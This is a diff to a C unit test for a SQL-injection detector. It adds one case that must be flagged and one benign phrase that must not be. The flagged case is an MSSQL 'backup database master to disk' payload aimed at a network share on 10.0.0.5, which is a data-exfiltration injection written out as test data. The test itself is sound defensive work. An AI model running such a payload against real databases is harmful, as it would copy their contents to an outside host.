@@ -1315,6 +1315,8 @@ Test(webstruct, nosql_shell_javascript_conditions_and_postgres_files)
     cr_assert_not(sqli("x && 10 == 100", FK_WS_PARAM));
     cr_assert_not(sqli("copy text from 'the book'", FK_WS_PARAM));
     cr_assert_not(sqli("select current user", FK_WS_PARAM));
+    cr_assert(sqli("backup database master to disk='\\\\10.0.0.5\\s\\x.bak'", FK_WS_PARAM));
+    cr_assert_not(sqli("how to backup database to disk", FK_WS_PARAM));
     static const char include[] = "hi <!--#echo var=\"x\" -->";
     cr_assert(fk_webstruct_text_breaks(include, strlen(include)) & FK_WS_BREAK_CODE);
 }
